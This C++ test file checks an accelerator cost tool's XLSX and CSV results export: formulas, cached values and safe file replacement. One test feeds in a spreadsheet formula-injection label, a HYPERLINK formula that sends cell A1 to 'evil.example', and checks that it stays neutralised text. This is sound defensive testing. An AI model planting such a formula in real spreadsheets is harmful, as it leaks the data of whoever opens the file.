// The XLSX and CSV files of a results export: the workbook is unzipped and its sheet XML
// read back, so the checks see what Excel or LibreOffice would open: formulas present,
// cached values equal to the engine's numbers. Plus the write-then-rename rules.
#include "core/engine/ScenarioEvaluator.h"
#include "core/export/ResultsWorkbook.h"
#include "database/export/ResultsFileWriter.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <regex>
#include <string>

namespace acceldecide::db {
namespace {

// Seed 004 as a value fixture: Trainium 3 at $1.80/h and 1,800 tok/s against H200 spot
// at $3.31/h and 1,500 tok/s, a 3-week port by two engineers at $150/h, 1 B tokens a day.
Scenario seed004()
{
    Scenario scenario;
    scenario.name = "Seed 004 & friends: <Trainium 3> vs \"H200\"";
    scenario.horizonMonths = 12;
    scenario.workload.kind = WorkloadKind::Inference;
    scenario.workload.modelParamsBillion = 70;
    scenario.workload.tokensPerDayBillion = 1;
    scenario.team = Team{2.0, 40.0, 150.0};
    auto option = [](std::string id, double rate, double tokensPerSec) {
        Option o;
        o.id = std::move(id);
        o.label = o.id;
        o.purchase.model = PurchaseModel::Effective;
        o.purchase.hourlyUsd = rate;
        o.throughput = Throughput::measured(tokensPerSec);
        return o;
    };
    Option h200od = option("h200_od", 0.0, 1500);
    h200od.instanceHourlyUsd = 4.54;
    h200od.purchase = Purchase{};
    Option trn3 = option("trn3", 1.80, 1800);
    trn3.migration = Migration{3.0, std::nullopt, std::nullopt, std::nullopt};
    scenario.options = {option("h200_spot", 3.31, 1500), h200od, trn3};
    scenario.baseline = "h200_spot";
    return scenario;
}

std::string unzip(const QString &archive, const std::string &member)
{
    const std::string command =
        "unzip -p '" + archive.toStdString() + "' '" + member + "' 2>/dev/null";
    std::string output;
    if (FILE *pipe = popen(command.c_str(), "r")) {
        char buffer[4096];
        for (std::size_t n; (n = fread(buffer, 1, sizeof buffer, pipe)) > 0;)
            output.append(buffer, n);
        pclose(pipe);
    }
    return output;
}

std::string unescapeXml(std::string text)
{
    const std::pair<const char *, const char *> entities[] = {
        {"&quot;", "\""}, {"&apos;", "'"}, {"&lt;", "<"}, {"&gt;", ">"}, {"&amp;", "&"}};
    for (const auto &[entity, plain] : entities) {
        for (std::size_t at; (at = text.find(entity)) != std::string::npos;)
            text.replace(at, std::string(entity).size(), plain);
    }
    return text;
}

struct XmlFormula
{
    std::string formula; // without the leading '='
    std::string cached;  // the <v> text
};

// Cell address -> formula and cached value, for every <c> with an <f> in a sheet's XML.
std::map<std::string, XmlFormula> formulas(const std::string &xml)
{
    static const std::regex cell(
        R"re(<c r="([A-Z]+[0-9]+)"[^>]*><f>([^<]*)</f><v>([^<]*)</v></c>)re");
    std::map<std::string, XmlFormula> found;
    for (auto it = std::sregex_iterator(xml.begin(), xml.end(), cell); it != std::sregex_iterator();
         ++it)
        found[(*it)[1]] = XmlFormula{unescapeXml((*it)[2]), unescapeXml((*it)[3])};
    return found;
}

// libxlsxwriter stores cached numbers with 16 significant digits.
bool sameNumber(const std::string &cached, double engine)
{
    char *end = nullptr;
    const double value = std::strtod(cached.c_str(), &end);
    if (cached.empty() || *end != '\0')
        return false; // a text result such as "not reached"
    return std::abs(value - engine) <= 1e-15 * std::max(1.0, std::abs(engine));
}

class ResultsXlsxWriterTest : public ::testing::Test
{
protected:
    void SetUp() override
    {
        ASSERT_TRUE(m_dir.isValid());
        m_evaluation = ScenarioEvaluator::evaluate(m_scenario);
    }
    QString path(const QString &name) const { return m_dir.filePath(name); }
    ResultsWorkbook workbook() const { return ResultsWorkbook::build(m_scenario, m_evaluation); }
    // Nothing but `expected` in the directory: no temporary file left behind.
    void expectOnly(const QStringList &expected) const
    {
        EXPECT_EQ(QDir(m_dir.path())
                      .entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot, QDir::Name),
                  expected);
    }

    QTemporaryDir m_dir;
    Scenario m_scenario = seed004();
    Evaluation m_evaluation;
};

TEST_F(ResultsXlsxWriterTest, WorkbookHoldsFormulasWithTheEnginesCachedValues)
{
    const ResultsWorkbook book = workbook();
    const QString file = path(QStringLiteral("results.xlsx"));
    const DatabaseStatus status = ResultsFileWriter::write(book, file);
    ASSERT_TRUE(status.ok()) << status.error().toString().toStdString();

    const std::string workbookXml = unzip(file, "xl/workbook.xml");
    EXPECT_NE(workbookXml.find(R"(<sheet name="Inputs")"), std::string::npos) << workbookXml;
    EXPECT_NE(workbookXml.find(R"(<sheet name="Key figures")"), std::string::npos);
    EXPECT_NE(workbookXml.find(R"(<sheet name="Monthly")"), std::string::npos);
    EXPECT_NE(workbookXml.find(R"(<sheet name="Cash flow")"), std::string::npos);

    // Every formula of the model is in the file, with its cached value.
    for (int s = 0; s < 4; ++s) {
        const WorkbookSheet &sheet = book.sheets()[static_cast<std::size_t>(s)];
        const std::map<std::string, XmlFormula> inFile =
            formulas(unzip(file, "xl/worksheets/sheet" + std::to_string(s + 1) + ".xml"));
        std::size_t expected = 0;
        for (std::size_t r = 0; r < sheet.rows.size(); ++r) {
            for (std::size_t c = 0; c < sheet.rows[r].size(); ++c) {
                const WorkbookCell &cell = sheet.rows[r][c];
                if (!cell.isFormula())
                    continue;
                ++expected;
                const std::string address =
                    ResultsWorkbook::cellName(static_cast<int>(r), static_cast<int>(c));
                const auto found = inFile.find(address);
                ASSERT_NE(found, inFile.end()) << sheet.name << "!" << address;
                EXPECT_EQ("=" + found->second.formula, cell.formula) << address;
                if (cell.cachedIsText)
                    EXPECT_EQ(found->second.cached, cell.text) << address;
                else
                    EXPECT_TRUE(sameNumber(found->second.cached, cell.number))
                        << sheet.name << "!" << address << ": " << found->second.cached;
            }
        }
        EXPECT_EQ(inFile.size(), expected) << sheet.name;
        if (s > 0) {
            EXPECT_GT(expected, 10u) << sheet.name;
        }
    }

    // The engine's headline numbers are among the cached values: TCO and CPM on "Key
    // figures" (sheet2), each month's cumulative cost on "Monthly" (sheet3).
    auto cachedValues = [&](int sheet) {
        std::vector<std::string> values;
        for (const auto &[address, cell] :
             formulas(unzip(file, "xl/worksheets/sheet" + std::to_string(sheet) + ".xml")))
            values.push_back(cell.cached);
        return values;
    };
    auto contains = [](const std::vector<std::string> &values, double engine) {
        return std::any_of(values.begin(), values.end(),
                           [engine](const std::string &v) { return sameNumber(v, engine); });
    };
    const std::vector<std::string> keyFigures = cachedValues(2);
    const std::vector<std::string> monthly = cachedValues(3);
    for (const OptionResult &option : m_evaluation.options) {
        EXPECT_TRUE(contains(keyFigures, option.tcoUsd)) << option.id;
        EXPECT_TRUE(contains(keyFigures, option.monthlyComputeUsd)) << option.id;
        EXPECT_TRUE(contains(keyFigures, *option.costPerMillionTokensUsd)) << option.id;
        for (const double cumulative : option.cumulativeUsd)
            EXPECT_TRUE(contains(monthly, cumulative)) << option.id;
    }
    // Each option's NPV on "Cash flow" (sheet4): an NPV() formula caching the engine's.
    const std::string cashFlowXml = unzip(file, "xl/worksheets/sheet4.xml");
    EXPECT_NE(cashFlowXml.find("NPV("), std::string::npos);
    const std::vector<std::string> cashFlow = cachedValues(4);
    for (const OptionResult &option : m_evaluation.options)
        EXPECT_TRUE(contains(cashFlow, option.cashFlow.npvUsd)) << option.id;
    EXPECT_TRUE(contains(keyFigures, 36000.0)); // the port: 2 x 3 x 40 x $150
    expectOnly({QStringLiteral("results.xlsx")});
}

TEST_F(ResultsXlsxWriterTest, CsvHasTheSameValues)
{
    const QString file = path(QStringLiteral("results.CSV")); // extension case-insensitive
    ASSERT_TRUE(ResultsFileWriter::write(workbook(), file).ok());
    QFile csv(file);
    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
    const std::string text = csv.readAll().toStdString();
    EXPECT_EQ(text.rfind("Inputs\r\n", 0), 0u);
    EXPECT_NE(text.find("\r\n\r\nKey figures\r\n"), std::string::npos);
    EXPECT_NE(text.find("\r\n\r\nMonthly\r\n"), std::string::npos);
    EXPECT_NE(text.find("\"Seed 004 & friends: <Trainium 3> vs \"\"H200\"\"\""), std::string::npos);
    EXPECT_NE(text.find(",36000,"), std::string::npos);
}

// A label that looks like a formula is a text cell in the workbook (a shared string),
// never a formula, and reads back exactly as typed; the same file written as CSV carries
// it neutralised (OWASP's leading quote, quoted).
TEST_F(ResultsXlsxWriterTest, FormulaLikeLabelsStayText)
{
    const std::string hyperlink = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")";
    m_scenario.name = "@SUM(1+1)";
    m_scenario.options[2].label = hyperlink;
    m_evaluation = ScenarioEvaluator::evaluate(m_scenario);
    const QString file = path(QStringLiteral("results.xlsx"));
    ASSERT_TRUE(ResultsFileWriter::write(workbook(), file).ok());
    const std::string strings = unescapeXml(unzip(file, "xl/sharedStrings.xml"));
    EXPECT_NE(strings.find(">" + hyperlink + "<"), std::string::npos) << strings;
    EXPECT_NE(strings.find(">@SUM(1+1)<"), std::string::npos);
    for (int sheet = 1; sheet <= 3; ++sheet) {
        for (const auto &[address, formula] :
             formulas(unzip(file, "xl/worksheets/sheet" + std::to_string(sheet) + ".xml"))) {
            EXPECT_EQ(formula.formula.find("HYPERLINK"), std::string::npos) << address;
            EXPECT_EQ(formula.formula.find("SUM(1+1)"), std::string::npos) << address;
        }
    }

    const QString csvFile = path(QStringLiteral("results.csv"));
    ASSERT_TRUE(ResultsFileWriter::write(workbook(), csvFile).ok());
    QFile csv(csvFile);
    ASSERT_TRUE(csv.open(QIODevice::ReadOnly));
    const std::string text = csv.readAll().toStdString();
    EXPECT_NE(text.find(R"x(,"'=HYPERLINK(""http://evil.example/""&A1,""click"")")x"),
              std::string::npos)
        << text;
    EXPECT_NE(text.find(R"x(,"'@SUM(1+1)")x"), std::string::npos);
}

TEST_F(ResultsXlsxWriterTest, ReplacesAnExistingFileOnlyWhenTheNewOneIsComplete)
{
    const QString file = path(QStringLiteral("results.xlsx"));
    {
        QFile old(file);
        ASSERT_TRUE(old.open(QIODevice::WriteOnly));
        old.write("old contents");
    }
    // A string longer than a cell may hold (32,767 characters) makes libxlsxwriter fail
    // half-way through the workbook.
    Scenario tooLong = m_scenario;
    tooLong.name = std::string(40000, 'x');
    const DatabaseStatus failed =
        ResultsFileWriter::write(ResultsWorkbook::build(tooLong, m_evaluation), file);
    ASSERT_FALSE(failed.ok());
    EXPECT_NE(failed.error().toString().indexOf(file), -1)
        << failed.error().toString().toStdString();
    QFile untouched(file);
    ASSERT_TRUE(untouched.open(QIODevice::ReadOnly));
    EXPECT_EQ(untouched.readAll(), QByteArray("old contents"));
    untouched.close();
    expectOnly({QStringLiteral("results.xlsx")});

    ASSERT_TRUE(ResultsFileWriter::write(workbook(), file).ok());
    QFile replaced(file);
    ASSERT_TRUE(replaced.open(QIODevice::ReadOnly));
    EXPECT_EQ(replaced.read(2), QByteArray("PK")); // a zip archive now
    expectOnly({QStringLiteral("results.xlsx")});
}

TEST_F(ResultsXlsxWriterTest, ClearErrorsForPathsThatCannotBeWritten)
{
    const DatabaseStatus missingDirectory =
        ResultsFileWriter::write(workbook(), QStringLiteral("/nonexistent-dir/out.xlsx"));
    ASSERT_FALSE(missingDirectory.ok());
    EXPECT_EQ(missingDirectory.error().toString(),
              QStringLiteral("cannot write /nonexistent-dir/out.xlsx: the directory "
                             "/nonexistent-dir does not exist"));

    const DatabaseStatus unknown = ResultsFileWriter::write(workbook(), path("out.ods"));
    ASSERT_FALSE(unknown.ok());
    EXPECT_NE(unknown.error().toString().indexOf(QStringLiteral("unknown extension \".ods\"")), -1);
    EXPECT_FALSE(ResultsFileWriter::checkPath(QStringLiteral("noextension")).ok());
    EXPECT_TRUE(ResultsFileWriter::checkPath(QStringLiteral("a/b.XLSX")).ok());

    ASSERT_TRUE(QDir(m_dir.path()).mkdir(QStringLiteral("folder.csv")));
    const DatabaseStatus directory = ResultsFileWriter::write(workbook(), path("folder.csv"));
    ASSERT_FALSE(directory.ok());
    EXPECT_NE(directory.error().toString().indexOf(QStringLiteral("is a directory")), -1);
    expectOnly({});
}

} // namespace
} // namespace acceldecide::db
